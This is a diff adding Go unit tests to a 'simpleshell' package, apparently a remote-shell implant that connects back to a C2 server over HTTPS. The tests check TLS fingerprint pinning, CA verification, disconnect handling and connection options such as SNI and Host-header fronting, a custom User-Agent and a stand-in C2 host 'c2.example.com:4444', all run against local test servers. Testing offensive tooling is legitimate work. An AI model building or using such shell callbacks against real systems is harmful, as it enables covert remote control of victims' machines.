@@ -5,19 +5,23 @@ package simpleshell
  * Tests for simpleshell.go
  * By J. Stuart McMurray
  * Created 20241013
- * Last Modified 20241013
+ * Last Modified 20261016
  */
 
 import (
 	"bytes"
 	"context"
+	"crypto/sha256"
 	"crypto/tls"
+	"crypto/x509"
 	"encoding/base64"
 	"errors"
 	"fmt"
 	"io"
+	"log"
 	"net"
 	"net/http"
+	"net/http/httptest"
 	"slices"
 	"sync"
 	"sync/atomic"
@@ -106,6 +110,20 @@ func TestTLSCertificateVerifier(t *testing.T) {
 		}
 	})
 
+	t.Run("multiple_fingerprints", func(t *testing.T) {
+		lerr, derr := try(fmt.Sprintf(
+			"sha256//%s; %s;",
+			base64.StdEncoding.EncodeToString(make([]byte, 32)),
+			l.Fingerprint,
+		))
+		if nil != lerr {
+			t.Errorf("Error from listener: %s", lerr)
+		}
+		if nil != derr {
+			t.Errorf("Error from tls.Dial: %s", derr)
+		}
+	})
+
 	t.Run("incorrect_fingerprint", func(t *testing.T) {
 		lerr, derr := try(base64.StdEncoding.EncodeToString(
 			make([]byte, 32),
@@ -123,6 +141,21 @@ func TestTLSCertificateVerifier(t *testing.T) {
 	})
 }
 
+func TestTLSFingerprintVerifier_Invalid(t *testing.T) {
+	for _, fp := range []string{
+		"",
+		";",
+		"sha256//",
+		"not base64",
+		base64.StdEncoding.EncodeToString(make([]byte, 31)),
+		base64.StdEncoding.EncodeToString(make([]byte, 32)) + ";moose",
+	} {
+		if _, err := TLSFingerprintVerifier(fp); nil == err {
+			t.Errorf("No error for fingerprint %q", fp)
+		}
+	}
+}
+
 func TestSplitArgs(t *testing.T) {
 	for have, want := range map[string][]string{
 		"|foo|bar|tridge|": {"foo", "bar", "tridge", ""},
@@ -251,3 +284,275 @@ func TestGo(t *testing.T) {
 		t.Errorf("Handler called %d times, not once", got)
 	}
 }
+
+func TestGo_ConnConfig(t *testing.T) {
+	type seen struct {
+		host   string
+		sni    string
+		ua     string
+		c2     string
+		extra  string
+		proto  int
+		called bool
+	}
+	for _, c := range []struct {
+		name    string
+		conf    ConnConfig
+		noHTTP2 bool
+		want    seen
+		wantErr bool
+	}{{
+		name: "defaults",
+		want: seen{
+			host:  "c2.example.com:4444",
+			sni:   "c2.example.com",
+			ua:    "Go-http-client/2.0",
+			proto: 2,
+		},
+	}, {
+		name: "everything",
+		conf: ConnConfig{
+			SNI:         "sni.example.com",
+			Host:        "host.example.com",
+			UserAgent:   "kittens",
+			Header:      http.Header{"X-Extra": {"moose"}},
+			C2Header:    "c2header.example.com",
+			HTTPVersion: HTTPVersion1,
+		},
+		want: seen{
+			host:  "host.example.com",
+			sni:   "sni.example.com",
+			ua:    "kittens",
+			c2:    "c2header.example.com",
+			extra: "moose",
+			proto: 1,
+		},
+	}, {
+		name: "http2_only",
+		conf: ConnConfig{HTTPVersion: HTTPVersion2},
+		want: seen{
+			host:  "c2.example.com:4444",
+			sni:   "c2.example.com",
+			ua:    "Go-http-client/2.0",
+			proto: 2,
+		},
+	}, {
+		name:    "http2_unsupported",
+		conf:    ConnConfig{HTTPVersion: HTTPVersion2},
+		noHTTP2: true,
+		wantErr: true,
+	}, {
+		name:    "bad_http_version",
+		conf:    ConnConfig{HTTPVersion: "3"},
+		wantErr: true,
+	}} {
+		t.Run(c.name, func(t *testing.T) {
+			var got seen
+			h := http.HandlerFunc(func(
+				w http.ResponseWriter,
+				r *http.Request,
+			) {
+				got = seen{
+					host:   r.Host,
+					sni:    r.TLS.ServerName,
+					ua:     r.UserAgent(),
+					c2:     r.Header.Get(C2Param),
+					extra:  r.Header.Get("X-Extra"),
+					proto:  r.ProtoMajor,
+					called: true,
+				}
+				/* Don't wait for the body before responding. */
+				rc := http.NewResponseController(w)
+				rc.EnableFullDuplex()
+				rc.Flush()
+			})
+			svr := httptest.NewUnstartedServer(h)
+			svr.Config.ErrorLog = log.New(io.Discard, "", 0)
+			svr.EnableHTTP2 = !c.noHTTP2
+			svr.StartTLS()
+			defer svr.Close()
+
+			/* Connect to the test server, but pretend it's
+			somewhere else. */
+			b, err := x509.MarshalPKIXPublicKey(
+				svr.Certificate().PublicKey,
+			)
+			if nil != err {
+				t.Fatalf("Error marshalling key: %s", err)
+			}
+			fp := sha256.Sum256(b)
+			conf := c.conf
+			conf.C2 = "https://c2.example.com:4444" + IOPath
+			conf.DialAddress = svr.Listener.Addr().String()
+			conf.Fingerprint = base64.StdEncoding.EncodeToString(
+				fp[:],
+			)
+			conf.Mode = ModeDuplex
+			_, _, shell := NewEchoShell()
+			err = Go(context.Background(), conf, shell)
+			if c.wantErr {
+				if nil == err {
+					t.Errorf("Expected error")
+				}
+				if got.called {
+					t.Errorf("Handler called unexpectedly")
+				}
+				return
+			} else if nil != err {
+				t.Fatalf("Error: %s", err)
+			}
+
+			want := c.want
+			want.called = true
+			if got != want {
+				t.Errorf(
+					"Incorrect request:\n"+
+						" got: %+v\n"+
+						"want: %+v",
+					got,
+					want,
+				)
+			}
+		})
+	}
+}
+
+func TestGo_VerifyCA(t *testing.T) {
+	svr := httptest.NewUnstartedServer(http.HandlerFunc(func(
+		w http.ResponseWriter,
+		r *http.Request,
+	) {
+		rc := http.NewResponseController(w)
+		rc.EnableFullDuplex()
+		rc.Flush()
+	}))
+	svr.Config.ErrorLog = log.New(io.Discard, "", 0)
+	svr.StartTLS()
+	defer svr.Close()
+
+	/* Work out how to trust the server. */
+	roots := x509.NewCertPool()
+	roots.AddCert(svr.Certificate())
+	b, err := x509.MarshalPKIXPublicKey(svr.Certificate().PublicKey)
+	if nil != err {
+		t.Fatalf("Error marshalling key: %s", err)
+	}
+	h := sha256.Sum256(b)
+	fp := base64.StdEncoding.EncodeToString(h[:])
+	wrongFP := base64.StdEncoding.EncodeToString(make([]byte, 32))
+
+	for _, c := range []struct {
+		name    string
+		conf    ConnConfig
+		wantErr error
+	}{{
+		name: "roots",
+		conf: ConnConfig{RootCAs: roots},
+	}, {
+		name: "roots_and_fingerprint",
+		conf: ConnConfig{
+			RootCAs:     roots,
+			Fingerprint: fp,
+			VerifyCA:    true,
+		},
+	}, {
+		name: "roots_and_wrong_fingerprint",
+		conf: ConnConfig{
+			RootCAs:     roots,
+			Fingerprint: wrongFP,
+			VerifyCA:    true,
+		},
+		wantErr: ErrNoMatchingCertificate,
+	}, {
+		name:    "system_roots",
+		conf:    ConnConfig{},
+		wantErr: ErrUntrustedCertificate,
+	}, {
+		name:    "system_roots_and_fingerprint",
+		conf:    ConnConfig{Fingerprint: fp, VerifyCA: true},
+		wantErr: ErrUntrustedCertificate,
+	}, {
+		name: "fingerprint_only",
+		conf: ConnConfig{Fingerprint: fp},
+	}} {
+		t.Run(c.name, func(t *testing.T) {
+			conf := c.conf
+			conf.C2 = svr.URL + IOPath
+			conf.Mode = ModeDuplex
+			_, _, shell := NewEchoShell()
+			err := Go(context.Background(), conf, shell)
+			if nil == c.wantErr && nil != err {
+				t.Errorf("Error: %s", err)
+			} else if !errors.Is(err, c.wantErr) {
+				t.Errorf(
+					"Incorrect error:\n"+
+						" got: %v\n"+
+						"want: %s",
+					err,
+					c.wantErr,
+				)
+			}
+		})
+	}
+}
+
+// lateShell is a Shell which says hello and then writes output until it can't
+// after its input is finished.
+type lateShell struct {
+	in   io.Reader
+	outr *io.PipeReader
+	outw *io.PipeWriter
+}
+
+func (s *lateShell) SetInput(in io.Reader) { s.in = in }
+func (s *lateShell) Output() io.ReadCloser { return s.outr }
+func (s *lateShell) Go(ctx context.Context) error {
+	defer s.outw.Close()
+	io.WriteString(s.outw, "early")
+	io.Copy(io.Discard, s.in)
+	for {
+		if _, err := io.WriteString(s.outw, "late"); nil != err {
+			return nil
+		}
+	}
+}
+
+func TestGo_OutputAfterDisconnect(t *testing.T) {
+	/* Server which hangs up without reading output. */
+	mux := http.NewServeMux()
+	mux.HandleFunc(IOPath, func(w http.ResponseWriter, r *http.Request) {
+		rc := http.NewResponseController(w)
+		rc.EnableFullDuplex()
+		rc.Flush()
+		c, _, err := rc.Hijack()
+		if nil != err {
+			t.Errorf("Error hijacking connection: %s", err)
+			return
+		}
+		c.Close()
+	})
+	svr := http.Server{Handler: mux}
+	l, err := sstls.Listen("tcp", "127.0.0.1:0", "", time.Hour, "")
+	if nil != err {
+		t.Fatalf("Error starting listener: %s", err)
+	}
+	defer l.Close()
+	go svr.Serve(l)
+	defer svr.Close()
+
+	/* Shell which only writes once it's been disconnected. */
+	pr, pw := io.Pipe()
+	done := make(chan error)
+	go func() {
+		done <- Go(context.Background(), ConnConfig{
+			C2:          "https://" + l.Addr().String() + IOPath,
+			Fingerprint: l.Fingerprint,
+			Mode:        ModeDuplex,
+		}, &lateShell{outr: pr, outw: pw})
+	}()
+	select {
+	case <-done:
+	case <-time.After(5 * time.Second):
+		t.Fatalf("Go didn't return after disconnecting")
+	}
+}